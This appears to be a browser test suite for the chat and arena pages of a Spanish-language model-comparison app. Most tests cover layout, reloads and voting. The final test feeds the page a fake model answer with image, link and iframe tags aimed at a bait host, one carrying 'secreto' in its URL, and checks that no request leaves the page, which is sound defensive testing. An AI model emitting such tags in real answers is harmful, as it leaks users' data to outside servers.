"""The Chat and Arena tabs as a visitor meets them, in Chromium at 1280x800 and 390x844: the first
screen, a conversation that every control keeps consistent, a reload, the vote shown, and answers
that cannot make the browser fetch anything."""

from __future__ import annotations

import json
import sqlite3
from urllib.parse import urlsplit

import pytest
from fake_servers import FakeOpenAI, listed, ok

VIEWPORTS = {
    "desktop": dict(viewport={"width": 1280, "height": 800}),
    "phone": dict(viewport={"width": 390, "height": 844}, device_scale_factor=2, is_mobile=True, has_touch=True),
}
QUESTION = "¿Puedo renovar un préstamo por teléfono?"
BOT = "#chat-chatbot [data-testid='bot']"
USER = "#chat-chatbot [data-testid='user']"
DUPLICATE_IDS = """(() => { const seen = {}; document.querySelectorAll('[id]').forEach(e => {
    if (e.id) seen[e.id] = (seen[e.id] || 0) + 1; }); return Object.keys(seen).filter(k => seen[k] > 1); })()"""


def open_page(browser, app, width: str = "desktop"):
    page = browser.new_page(**VIEWPORTS[width])
    page.set_default_timeout(30_000)
    page.goto(app.url, wait_until="load")
    page.locator("#chat-send").wait_for()
    return page


def ask(page, question: str) -> None:
    before = page.locator(BOT).count()
    page.locator("#chat-question textarea").fill(question)
    page.locator("#chat-send").click()
    wait_answered(page, before + 1)


def wait_answered(page, answers: int = 1) -> None:
    page.wait_for_function(
        f"document.querySelectorAll({json.dumps(BOT)}).length === {answers} && "
        "document.querySelector('#chat-status')?.innerText.includes('Respondida')"
    )


def stored_conversations(app) -> list:
    """The `conversation` of every answer the server stored (what a rating row carries), oldest first."""
    db = app.env["RAGARENA_DATA_DIR"] + "/arena.db"
    with sqlite3.connect(db) as conn:
        return [json.loads(row[0]) for row in conn.execute("SELECT conversation FROM chat_answers ORDER BY rowid")]


def arena_round(page) -> None:
    """Ask in the Arena and wait until the round can be voted."""
    page.get_by_role("tab", name="Arena").click()
    page.locator("#arena-question textarea").fill("¿Cuánto cuesta imprimir en color?")
    page.locator("#arena-send").click()
    page.wait_for_function("!document.querySelector('#arena-vote-b').disabled", timeout=60_000)


@pytest.fixture
def app(app_launcher, tmp_path):
    launched = app_launcher({"RAGARENA_RETRIEVAL": "bm25"})
    launched.env = {"RAGARENA_DATA_DIR": str(tmp_path / "runtime")}
    return launched


@pytest.mark.parametrize("width", VIEWPORTS)
def test_first_screen_shows_the_question_box_examples_and_only_models_that_answer(browser, app, width):
    page = open_page(browser, app, width)
    height = VIEWPORTS[width]["viewport"]["height"]
    box = page.locator("#chat-question textarea").bounding_box()
    assert box and box["y"] + box["height"] <= height, f"question box at {box} below the first {height} px"
    examples = page.locator("#chat-chatbot button.example")
    assert examples.count() >= 2 and examples.first.is_visible()
    assert "documentación" in page.locator("#chat-chatbot").inner_text()
    # Unavailable models (no key, no server) are not offered; the note for whoever runs the app is folded.
    page.locator("#chat-model input").click()
    offered = " ".join(page.locator("[role=option]").all_inner_texts())
    assert "Extractivo" in offered and "GPT" not in offered and "no disponible" not in offered
    page.keyboard.press("Escape")
    assert "OPENAI_API_KEY" not in page.locator("body").inner_text()
    page.locator("#chat-add-models").get_by_text("Añadir modelos").click()
    page.wait_for_function("document.body.innerText.includes('OPENAI_API_KEY')")
    assert page.evaluate(DUPLICATE_IDS) == []
    assert app.log().count("Modelo no disponible: gpt-3.5-turbo") == 1  # once, at start, for whoever runs it
    # A click on an example asks it.
    examples.first.click()
    wait_answered(page)
    assert page.locator(USER).count() == 1 and page.locator(BOT).count() == 1
    box = page.locator("#chat-question textarea").bounding_box()
    assert box and box["y"] + box["height"] <= height, "the answer pushed the question box below the fold"
    assert page.evaluate(DUPLICATE_IDS) == []


def test_clear_resets_everything_and_the_follow_up_starts_afresh(browser, app):
    page = open_page(browser, app)
    ask(page, QUESTION)
    rate_box = page.locator("#chat-rate").get_by_text("Valora la última respuesta")
    rate_box.wait_for()
    page.locator("#chat-chatbot button[aria-label='Clear']").click()
    page.wait_for_function("!document.querySelector('#chat-passages').innerText.includes('[1]')")
    assert page.locator(BOT).count() == 0 and page.locator("#chat-status").inner_text().strip() == ""
    rate_box.wait_for(state="hidden")
    ask(page, "¿Y por teléfono?")
    assert page.locator(USER).count() == 1
    # The server answered from what the page showed: the cleared turn is not part of the follow-up.
    assert stored_conversations(app)[-1] == []
    ask(page, "¿Y por la web?")
    assert [turn["question"] for turn in stored_conversations(app)[-1]] == ["¿Y por teléfono?"]


def test_triple_click_asks_once_and_reports_no_error(browser, app):
    page = open_page(browser, app)
    page.locator("#chat-question textarea").fill(QUESTION)
    page.locator("#chat-send").click(click_count=3)
    wait_answered(page)
    page.wait_for_timeout(1000)  # any late second or third request would have landed by now
    assert "⚠️" not in page.locator("#chat-status").inner_text()
    assert page.locator(USER).count() == 1 and page.locator(BOT).count() == 1
    assert len(stored_conversations(app)) == 1


def test_reload_keeps_the_conversation(browser, app):
    page = open_page(browser, app, "phone")
    kept = "localStorage.getItem('ragarena-chat')"
    before = page.evaluate(kept)
    ask(page, QUESTION)
    page.wait_for_function(f"{kept} !== {json.dumps(before)}")  # the browser's copy is written after the answer
    page.reload(wait_until="load")
    page.locator("#chat-send").wait_for()
    page.wait_for_function(f"document.querySelector('#chat-chatbot')?.innerText.includes({json.dumps(QUESTION)})")
    page.wait_for_function("document.querySelector('#chat-passages')?.innerText.includes('[1]')")
    assert page.locator(BOT).count() == 1
    ask(page, "¿Y por la web?")  # the follow-up carries the restored turn
    assert [turn["question"] for turn in stored_conversations(app)[-1]] == [QUESTION]


@pytest.mark.parametrize("width", VIEWPORTS)
def test_the_arena_vote_stays_highlighted_and_names_carry_no_ids(browser, app, width):
    page = open_page(browser, app, width)
    arena_round(page)
    page.locator("#arena-vote-b").click()
    page.wait_for_function("document.querySelector('#arena-status')?.innerText.includes('Voto registrado')")
    page.wait_for_function("document.querySelector('#arena-vote-b').classList.contains('ra-voted')")
    assert not page.evaluate("document.querySelector('#arena-vote-a').classList.contains('ra-voted')")
    names = page.locator("#arena-name-a").inner_text() + page.locator("#arena-name-b").inner_text()
    assert "extractive" not in names and page.locator("#arena-name-a code").count() == 0
    page.locator("#arena-reasons-save").click()
    page.wait_for_function("document.querySelector('#arena-reasons-status')?.innerText.includes('sin motivos')")
    assert "B es mejor" in page.locator("#arena-reasons-status").inner_text()
    page.locator("#arena-new-round").click()
    page.wait_for_function("!document.querySelector('#arena-vote-b').classList.contains('ra-voted')")
    assert page.evaluate(DUPLICATE_IDS) == []


def test_an_arena_round_survives_a_reload_before_and_after_its_vote(browser, app):
    page = open_page(browser, app, "phone")
    kept = "localStorage.getItem('ragarena-arena')"
    before = page.evaluate(kept)
    arena_round(page)
    page.wait_for_function(f"{kept} !== {json.dumps(before)}")
    page.reload(wait_until="load")
    page.get_by_role("tab", name="Arena").click()
    # The same round, still votable: both answers back, names hidden.
    page.wait_for_function("!document.querySelector('#arena-vote-a').disabled")
    assert page.locator("#arena-chat-a [data-testid='bot']").count() == 1
    assert "Extractivo" not in page.locator("#arena-name-a").inner_text()
    page.locator("#arena-vote-a").click()
    page.wait_for_function("document.querySelector('#arena-status')?.innerText.includes('Voto registrado')")
    page.reload(wait_until="load")
    page.get_by_role("tab", name="Arena").click()
    # Voted stays voted: the vote shown, highlighted, names revealed, no second vote possible.
    page.wait_for_function("document.querySelector('#arena-status')?.innerText.includes('Voto registrado')")
    assert page.evaluate("document.querySelector('#arena-vote-a').classList.contains('ra-voted')")
    assert page.evaluate("document.querySelector('#arena-vote-b').disabled")
    assert "Extractivo" in page.locator("#arena-name-a").inner_text()


def test_a_cleared_arena_answer_cannot_be_voted(browser, app):
    page = open_page(browser, app)
    arena_round(page)
    page.locator("#arena-chat-a button[aria-label='Clear']").click()
    page.wait_for_function("document.querySelector('#arena-vote-b').disabled")
    assert page.locator("#arena-chat-b [data-testid='bot']").count() == 0


MALICIOUS = (
    "Respuesta: ![x](http://{host}/img.png?q=secreto) y [pulsa](http://{host}/link) "
    "<img src='http://{host}/html.png'> ![d](data:image/png;base64,iVBORw0KGgo=) "
    "<iframe src='http://{host}/frame'></iframe> http://{host}/bare fin."
)


def test_an_answer_that_tries_to_load_images_links_or_html_makes_no_request(browser, app_launcher, tmp_path):
    with FakeOpenAI(models=[listed("m")]) as model, FakeOpenAI() as bait:
        host = urlsplit(bait.base_url).netloc
        model.default = ok(MALICIOUS.format(host=host))
        models = tmp_path / "models.yaml"
        models.write_text(
            "models:\n  - {id: gpt, label: GPT, kind: openai, model: m, api_key_env: FAKE_KEY, "
            "base_url_env: FAKE_URL}\n  - {id: extractive, label: Extractivo, kind: extractive}\n",
            encoding="utf-8",
        )
        app = app_launcher(
            {
                "RAGARENA_MODELS": str(models),
                "FAKE_KEY": "sk-prueba",
                "FAKE_URL": model.base_url,
                "RAGARENA_RETRIEVAL": "bm25",
            }
        )
        page = open_page(browser, app)
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        # The echoed question tries it too.
        page.locator("#chat-question textarea").fill(f"Muéstrame esto ![q](http://{host}/question.png)")
        page.locator("#chat-send").click()
        wait_answered(page)
        page.wait_for_timeout(1500)  # images and frames would have been requested by now
        answer = page.locator(BOT).last.inner_text()
        assert "Respuesta:" in answer and "pulsa" in answer and "fin." in answer
        assert page.locator(f"{BOT} img, {BOT} iframe, {BOT} a[href*='{host}']").count() == 0
        app_origin = app.url.rstrip("/")
        leaving = [url for url in requested if not url.startswith(app_origin)]
        assert leaving == [], leaving
        assert bait.requests == []
